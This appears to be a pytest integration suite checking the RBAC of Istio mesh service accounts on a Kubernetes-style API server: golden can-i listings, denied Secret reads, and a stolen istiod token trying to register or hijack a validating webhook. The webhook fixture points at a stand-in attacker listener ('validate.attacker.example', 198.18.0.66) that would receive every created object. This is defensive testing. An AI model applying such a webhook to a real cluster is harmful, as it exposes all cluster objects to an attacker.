"""The mesh components' service accounts (``istio-system/{istiod,istio-cni,ztunnel}``) hold exactly the rules of
``deploy/rbac``: ``kubectl auth can-i --list`` for each is compared with a golden file, and each one's own token is
tried against the Secrets its role does not give it. The ingress gateway's account
(``deploy/ingressgateway/serviceaccount.yaml``) has no role at all: it reads its configuration and certificates from
the control plane over xDS, so its ``can-i --list`` is the discovery rules every authenticated user holds.

Golden files live in ``golden/can-i/<account>.txt``; ``AMBIT_UPDATE_GOLDEN=1 pytest ...`` rewrites them.
"""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from tests.harness import ServerProcess
from tests.integration.apiserver_client import ApiClient, assert_status, ssl_context_from_kubeconfig

pytestmark = pytest.mark.kubectl

ROOT = Path(__file__).resolve().parents[2]
GOLDEN = Path(__file__).parent / "golden" / "can-i"
ACCOUNTS = ("istiod", "istio-cni", "ztunnel")
GATEWAY = "istio-ingressgateway-service-account"
ISTIO = "/api/v1/namespaces/istio-system"


@pytest.fixture(scope="module")
def mesh_server(server_process: ServerProcess) -> ServerProcess:
    server_process.kubectl("create", "namespace", "istio-system", check=False)
    for account in ACCOUNTS:
        server_process.kubectl("create", "serviceaccount", account, "-n", "istio-system", check=False)
    server_process.kubectl("apply", "-f", str(ROOT / "deploy" / "ingressgateway" / "serviceaccount.yaml"))
    server_process.kubectl("apply", "-f", str(ROOT / "deploy" / "base" / "istio-cni" / "role.yaml"))
    server_process.kubectl(
        "create",
        "secret",
        "generic",
        "istio-ca-secret",
        "-n",
        "istio-system",
        "--from-literal=ca-key.pem=k",
        check=False,
    )
    server_process.kubectl(
        "create", "secret", "generic", "app-secret", "-n", "default", "--from-literal=k=v", check=False
    )
    return server_process


@pytest.mark.parametrize("account", (*ACCOUNTS, GATEWAY))
def test_each_component_account_holds_the_rules_of_its_golden_file(mesh_server: ServerProcess, account: str) -> None:
    out = mesh_server.kubectl(
        "auth", "can-i", "--list", "-n", "istio-system", f"--as=system:serviceaccount:istio-system:{account}"
    )
    path = GOLDEN / f"{account}.txt"
    if os.environ.get("AMBIT_UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(out)
    assert out == path.read_text(), f"{path} differs (AMBIT_UPDATE_GOLDEN=1 rewrites it)"
    if account == GATEWAY:  # discovery and self-review only: no resource but the two access reviews
        resources = {row.split()[0] for row in out.splitlines()[1:] if not row.startswith(" ")}
        assert resources == {
            "selfsubjectaccessreviews.authorization.k8s.io",
            "selfsubjectrulesreviews.authorization.k8s.io",
        }, out
    elif account == "istiod":  # Istio's istiod reads Secrets for gateway certificates; read only
        [line] = [row for row in out.splitlines() if row.split()[:1] == ["secrets"]]
        assert line.split()[-3:] == ["[get", "list", "watch]"], line
    else:
        assert "secrets" not in out.split()


@pytest.fixture
async def tokens(mesh_server: ServerProcess) -> AsyncIterator[tuple[ApiClient, dict[str, str]]]:
    url = f"https://127.0.0.1:{mesh_server.port}"
    admin_token = (mesh_server.data_dir / "admin.token").read_text().strip()
    async with ApiClient(url, ssl_context_from_kubeconfig(mesh_server.kubeconfig), admin_token) as admin:
        minted: dict[str, str] = {}
        for account in (*ACCOUNTS, GATEWAY):
            reply = await admin.post(f"{ISTIO}/serviceaccounts/{account}/token", {"spec": {"expirationSeconds": 600}})
            assert reply.status == 201, reply.body
            minted[account] = str(reply.body["status"]["token"])
        yield admin, minted


@pytest.mark.parametrize("account", ("istio-cni", "ztunnel", GATEWAY))
@pytest.mark.parametrize(
    "path",
    [
        f"{ISTIO}/secrets/istio-ca-secret",
        f"{ISTIO}/secrets",
        "/api/v1/namespaces/default/secrets/app-secret",
        "/api/v1/secrets",
    ],
)
async def test_no_component_token_reads_secrets(
    tokens: tuple[ApiClient, dict[str, str]], account: str, path: str
) -> None:
    admin, minted = tokens
    reply = await admin.request("GET", path, token=minted[account])
    status = assert_status(reply, 403, "Forbidden")
    assert f'User "system:serviceaccount:istio-system:{account}" cannot' in status["message"]


async def test_the_control_plane_reads_secrets_for_gateway_certificates_and_never_writes_them(
    tokens: tuple[ApiClient, dict[str, str]],
) -> None:
    """Istio's istiod reads Secrets (ingress listeners' certificateRefs, served only to the owning gateway over
    xDS); it may not create, change or delete one."""
    admin, minted = tokens
    assert (await admin.request("GET", "/api/v1/secrets", token=minted["istiod"])).status == 200
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "planted"}, "data": {}}
    for method, path, body in (
        ("POST", f"{ISTIO}/secrets", secret),
        ("DELETE", "/api/v1/namespaces/default/secrets/app-secret", None),
        ("PUT", f"{ISTIO}/secrets/istio-ca-secret", secret),
    ):
        reply = await admin.request(method, path, body, token=minted["istiod"])
        assert_status(reply, 403, "Forbidden")


async def test_the_control_plane_may_get_nodes_for_node_authorization_and_the_node_proxy_may_not(
    tokens: tuple[ApiClient, dict[str, str]],
) -> None:
    admin, minted = tokens
    assert (await admin.request("GET", "/api/v1/nodes", token=minted["istiod"])).status == 200
    assert_status(await admin.request("GET", "/api/v1/nodes", token=minted["ztunnel"]), 403, "Forbidden")
    assert_status(await admin.request("GET", "/api/v1/pods", token=minted["ztunnel"]), 403, "Forbidden")


WEBHOOKS = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"


def _webhook(name: str) -> dict[str, object]:
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": "validate.attacker.example",
                "clientConfig": {"url": "https://198.18.0.66:9443/validate"},
                "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["*"]}],
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }
        ],
    }


async def test_a_stolen_control_plane_token_cannot_register_or_take_over_another_webhook(
    tokens: tuple[ApiClient, dict[str, str]],
) -> None:
    """istiod may patch its own webhook configuration's caBundle, nothing else: with its token an attacker can neither
    create a configuration that sends every object to a listener of theirs nor rewrite someone else's."""
    admin, minted = tokens
    istiod = minted["istiod"]
    reply = await admin.request("POST", WEBHOOKS, _webhook("attacker"), token=istiod)
    assert_status(reply, 403, "Forbidden")
    created = await admin.post(WEBHOOKS, _webhook("someone-else"))
    assert created.status == 201, created.body
    patch = [{"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://198.18.0.66:1/x"}]
    reply = await admin.request(
        "PATCH", f"{WEBHOOKS}/someone-else", patch, token=istiod, content_type="application/json-patch+json"
    )
    assert_status(reply, 403, "Forbidden")
    created = await admin.post(WEBHOOKS, _webhook("istio-validator-ambit"))
    assert created.status == 201, created.body
    reply = await admin.request(
        "PATCH",
        f"{WEBHOOKS}/istio-validator-ambit",
        [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "Zm9v"}],
        token=istiod,
        content_type="application/json-patch+json",
    )
    assert reply.status == 200, reply.body
    for name in ("someone-else", "istio-validator-ambit"):
        await admin.request("DELETE", f"{WEBHOOKS}/{name}")
